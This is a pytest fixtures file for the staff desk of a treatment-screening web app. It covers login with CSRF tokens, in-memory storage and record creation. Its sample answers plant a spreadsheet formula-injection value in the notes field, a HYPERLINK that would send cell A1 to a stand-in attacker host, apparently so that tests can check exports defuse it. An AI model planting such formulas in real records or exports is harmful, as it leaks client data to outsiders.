"""Shared by the desk tests: an app over an in-memory store with a staff member, records made
as the screening makes them, and a logged-in client."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from argon2 import PasswordHasher, Type
from fastapi.testclient import TestClient

from suitability import assess, default_questionnaire
from suitability.web import passwords
from suitability.web.app import create_app
from suitability.web.settings import Settings
from suitability.web.store import Store

NAME = "alice"
PASSWORD = "correct horse battery"
PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'

COMPLETE: dict[str, Any] = {
    "age": 41,
    "goals": ["fine_lines", "expression_lines"],
    "pregnant": "no",
    "bleeding_disorder": "not_sure",
    "blood_thinners_rx": "yes",
    "notes": PLANTED,
}


@pytest.fixture(autouse=True)
def cheap_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    """argon2 at its lowest cost: the same code paths, without seconds per test."""
    monkeypatch.setattr(
        passwords, "hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1, type=Type.ID)
    )


@dataclass
class Desk:
    store: Store
    client: TestClient
    app: Any

    def login(self, name: str = NAME, password: str = PASSWORD) -> Any:
        page = self.client.get("/desk/login")
        return self.client.post(
            "/desk/login",
            data={"csrf": csrf(page.text), "name": name, "password": password},
            follow_redirects=False,
        )

    def csrf(self, path: str = "/desk") -> str:
        return csrf(self.client.get(path).text)


def csrf(html: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', html)
    assert match, html
    return match.group(1)


def make_desk(
    settings: Settings | None = None, store: Store | None = None, *, kiosk: bool = False
) -> Desk:
    store = store or Store.in_memory()
    store.add_staff(NAME, passwords.hash_password(PASSWORD))
    app = create_app(settings or Settings(), store, kiosk=kiosk)
    return Desk(store, TestClient(app, base_url="http://127.0.0.1"), app)


@pytest.fixture
def desk() -> Iterator[Desk]:
    made = make_desk()
    yield made
    made.store.close()


@pytest.fixture
def staff(desk: Desk) -> Desk:
    assert desk.login().status_code == 303
    return desk


def add_record(
    store: Store,
    answers: dict[str, Any] | None = None,
    *,
    reference: str | None = "Jo Bloggs",
    complete: bool = True,
    started: dt.datetime | None = None,
    needs_staff: bool = False,
) -> str:
    q = default_questionnaire()
    given = dict(COMPLETE if answers is None else answers)
    rid = store.new_screening(
        source="kiosk",
        questionnaire_id=q.id,
        questionnaire_version=q.version,
        questionnaire_hash=q.content_hash,
        answered_on=dt.date.today(),
        reference=reference,
        answers=given,
        started=started,
    )
    if complete:
        store.finish(rid, given, assess(given).to_json())
    else:
        store.mark_partial(rid, "timed out", needs_staff=needs_staff)
    return rid
